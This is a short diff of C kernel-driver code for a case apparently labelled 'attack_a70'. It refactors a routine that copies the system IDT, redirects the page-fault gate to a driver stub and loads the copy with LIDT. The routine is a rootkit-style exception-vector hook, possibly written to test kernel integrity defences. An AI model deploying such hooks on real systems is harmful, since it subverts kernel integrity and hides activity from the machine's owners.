@@ -25,13 +25,6 @@ static uint8_t idt_copy[IDT_BYTES] __attribute__((aligned(4096)));
 static uint8_t tss_copy[TSS_BYTES] __attribute__((aligned(4096)));
 static uint8_t df_stack[4096] __attribute__((aligned(16)));
 
-struct gate {
-	uint16_t off_lo, sel;
-	uint8_t ist, attr;
-	uint16_t off_mid;
-	uint32_t off_hi, reserved;
-} __attribute__((packed));
-
 struct dtr {
 	uint16_t limit;
 	uint64_t base;
@@ -43,11 +36,8 @@ static void load_idt_copy(void)
 	__asm__ volatile("sidt %0" : "=m"(idtr));
 	memcpy(idt_copy, (const void *)idtr.base, (size_t)idtr.limit + 1);
 	struct gate *g = (struct gate *)idt_copy + VEC_PF;
-	attack_a70_original = g->off_lo | (uint64_t)g->off_mid << 16 | (uint64_t)g->off_hi << 32;
-	uint64_t stub = (uint64_t)&attack_a70_stub;
-	g->off_lo = stub & 0xFFFF;
-	g->off_mid = (stub >> 16) & 0xFFFF;
-	g->off_hi = stub >> 32;
+	attack_a70_original = a_gate_target(g);
+	a_gate_point(g, (uint64_t)&attack_a70_stub);
 	struct dtr copy = {idtr.limit, (uint64_t)idt_copy};
 	__asm__ volatile("lidt %0" ::"m"(copy) : "memory");
 	printk("attack_a70: LIDT loaded the driver's copy of the IDT (page-fault gate chained through the driver)\n");
